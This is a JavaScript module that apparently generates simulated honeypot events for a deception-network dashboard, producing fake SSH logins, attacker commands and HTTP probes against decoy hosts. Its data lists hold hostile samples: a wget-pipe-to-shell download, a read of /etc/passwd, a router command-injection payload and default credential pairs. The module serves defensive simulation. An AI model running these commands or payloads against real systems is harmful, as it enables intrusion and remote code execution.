import { randomUUID } from 'node:crypto';

const SOURCES = ['203.0.113.44', '198.51.100.7', '192.0.2.151', '203.0.113.9'];
const PAIRS = [['root', 'toor'], ['admin', 'admin123'], ['ops', 'letmein'], ['pi', 'raspberry'], ['root', 'P@ssw0rd!']];
const COMMANDS = ['uname -a', 'cat /etc/passwd', 'wget http://198.51.100.7/x.sh -O- | sh', 'ls -la /home', 'crontab -l', 'ss -tlnp'];
const REQUESTS = ['GET / HTTP/1.1', 'POST /login HTTP/1.1', 'GET /wp-login.php HTTP/1.1', 'GET /.env HTTP/1.1', 'GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id) HTTP/1.1'];
const pick = (list) => list[Math.floor(Math.random() * list.length)];

let seq = 0;

function story(service) {
  if (service === 'http') return { eventType: 'request', request: pick(REQUESTS), bytes: 512 };
  const kind = Math.random();
  if (kind < 0.15) return { eventType: 'connect' };
  if (kind < 0.7) {
    const [user, secret] = pick(PAIRS);
    return { eventType: 'login', user, secret, outcome: user === 'ops' ? 'success' : 'failure' };
  }
  return { eventType: 'command', command: pick(COMMANDS) };
}

/** Somebody touches one of the deckies. */
export function capture(maze, at = new Date()) {
  const reachable = maze.deckies.filter(({ services }) => services.length > 0).slice(0, 12);
  const host = pick(reachable);
  const home = maze.edges.find((edge) => edge.deckyId === host.id && edge.isHome);
  const service = pick(host.services);
  seq += 1;
  return {
    seq, id: randomUUID(), at: at.toISOString(), topologyId: maze.id, deckyId: host.id, deckyName: host.name, lan: maze.lans.find(({ id }) => id === home.lanId).name, service,
    sessionId: randomUUID(), srcIp: pick(SOURCES), srcPort: 40000 + Math.floor(Math.random() * 20000), dstIp: home.ip, dstPort: service === 'ssh' ? 22 : 80,
    outcome: null, user: null, secret: null, command: null, request: null, bytes: null, data: null, ...story(service),
  };
}

export function counts(events) {
  const rows = new Map();
  for (const event of events) rows.set(event.deckyId, { deckyId: event.deckyId, count: (rows.get(event.deckyId)?.count ?? 0) + 1, lastAt: event.at, lastSrcIp: event.srcIp });
  return [...rows.values()];
}
